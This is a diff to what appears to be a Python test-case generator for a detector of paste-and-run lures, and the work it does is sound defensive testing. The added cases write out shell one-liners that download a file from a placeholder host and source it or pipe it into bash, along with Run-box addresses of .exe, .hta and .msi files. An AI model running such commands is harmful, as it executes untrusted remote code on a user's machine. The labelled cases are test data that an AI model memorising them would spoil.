@@ -39,6 +39,12 @@ Each line is {id, text, expect, technique, platform, source, target}. Techniques
 - `forge-cdn-and-bare-host`: jsDelivr's /gh/<owner>/<repo> linked to github.com/<owner>, and
   an installer address written without a scheme on its own site: `info`; from another owner's
   page: `flagged`; written as plain http://: not vouched (`flagged`);
+- `url-to-program`: only the web address of a program or script file (.exe, .msi, .hta...) pasted
+  into the Run box from a stranger's page: `malicious`; the same address into a chat, or a
+  document's address into the Run box: not flagged;
+- `download-then-source`: a download saved to a file and read into the shell with `.` or
+  `source`, or fed to a shell through `< <(curl …)`: `flagged`; activating a local virtualenv:
+  not flagged;
 - `oauth-placeholder`: a documentation redirect whose code is cut short with `...`: not flagged;
   a real code: `flagged`.
 """
@@ -523,6 +529,59 @@ def oauth_cases() -> list[dict[str, str]]:
     ]  # fmt: skip
 
 
+def url_program_cases() -> list[dict[str, str]]:
+    page = STRANGER_PAGES[0]
+    lures = [
+        "https://dl.quartz-relay.example/setup/AudioFix.exe",
+        "http://203.0.113.61/a.hta",
+        "https://static.ember-cdn.example/pay/statement.msi?id=5521",
+        '"https://api.pine-sync.test/v/check.bat"',
+    ]
+    out = [
+        case(f"rt-url-program-{n}", text, "malicious", "T1204.002", "windows", page, "run_dialog")
+        for n, text in enumerate(lures, start=1)
+    ]
+    out += [
+        case("rt-url-program-ok-1",
+             "https://github.com/larkspur-io/lark/releases/download/v2.1.0/lark-setup.exe",
+             "not_flagged", BENIGN, "windows", "https://github.com/larkspur-io/lark", "other"),
+        case("rt-url-program-ok-2", "https://www.example-council.gov/minutes/2026-11.pdf",
+             "not_flagged", BENIGN, "windows", page, "run_dialog"),
+    ]  # fmt: skip
+    return out
+
+
+def source_cases() -> list[dict[str, str]]:
+    out = []
+    for n, host in enumerate(LURE_HOSTS, start=1):
+        page = STRANGER_PAGES[n % len(STRANGER_PAGES)]
+        lures = [
+            f"wget https://{host}/env -qO /tmp/.e; . /tmp/.e",
+            f"curl -fsSL https://{host}/p -o ~/.p && source ~/.p",
+            f"bash < <(curl -s https://{host}/b)",
+        ]
+        for k, text in enumerate(lures, start=1):
+            out.append(case(f"rt-source-{n}-{k}", text, "flagged", "T1059.004", "linux", page,
+                            "terminal"))  # fmt: skip
+    benign = [
+        "python3 -m venv .venv && . .venv/bin/activate",
+        "source ~/.bashrc",
+    ]
+    out += [
+        case(
+            f"rt-source-ok-{n}",
+            text,
+            "not_flagged",
+            BENIGN,
+            "linux",
+            "https://docs.python.org/3/library/venv.html",
+            "terminal",
+        )
+        for n, text in enumerate(benign, start=1)
+    ]
+    return out
+
+
 def build() -> list[dict[str, str]]:
     cases = (
         page_disguise_cases()
@@ -538,6 +597,8 @@ def build() -> list[dict[str, str]]:
         + scam_cases()
         + provenance_cases()
         + oauth_cases()
+        + url_program_cases()
+        + source_cases()
     )
     ids = [c["id"] for c in cases]
     assert len(ids) == len(set(ids)), "case ids must be unique"
